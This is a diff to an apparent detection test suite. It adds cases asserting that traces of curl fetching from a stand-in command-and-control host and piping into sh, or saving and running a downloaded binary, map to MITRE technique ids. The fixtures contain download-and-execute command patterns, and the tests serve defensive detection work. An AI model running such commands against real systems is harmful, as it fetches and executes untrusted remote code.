@@ -119,6 +119,26 @@ describe('downloads and decoded payloads piped into interpreters', () => {
     expect(ids.get('execution.download-into-shell')).toEqual(['T1105', 'T1059.004']);
   });
 
+  it("a script's own `curl URL | sh` pipeline (curl and a stdin shell side by side) is too", () => {
+    const ids = new Trace()
+      .run(701, '/usr/bin/curl', ['curl', '-fsSL', 'http://c2.example.test/i.sh'])
+      .run(702, '/bin/sh', ['sh'])
+      .ids();
+    expect(ids.get('execution.download-into-shell')).toEqual(['T1105', 'T1059.004']);
+    expect(ids.has('execution.decoded-shell')).toBe(false);
+  });
+
+  it('a shell redirection of curl into a file makes that file downloaded', () => {
+    const ids = new Trace()
+      .fork(SAMPLE, 701)
+      .create(701, '/tmp/agent')
+      .exec(701, '/usr/bin/curl', ['curl', '-s', 'http://c2.example.test/agent'])
+      .run(702, '/tmp/agent', ['/tmp/agent'])
+      .ids();
+    expect(ids.get('execution.downloaded-file')).toEqual(['T1105']);
+    expect(ids.has('execution.dropped-file')).toBe(false);
+  });
+
   it('curl piped into a JSON filter is not', () => {
     const ids = new Trace().run(701, '/bin/sh', ['sh', '-c', 'curl -fsSL http://api.example.test/v1 | jq .name']).ids();
     expect(ids.has('execution.download-into-shell')).toBe(false);
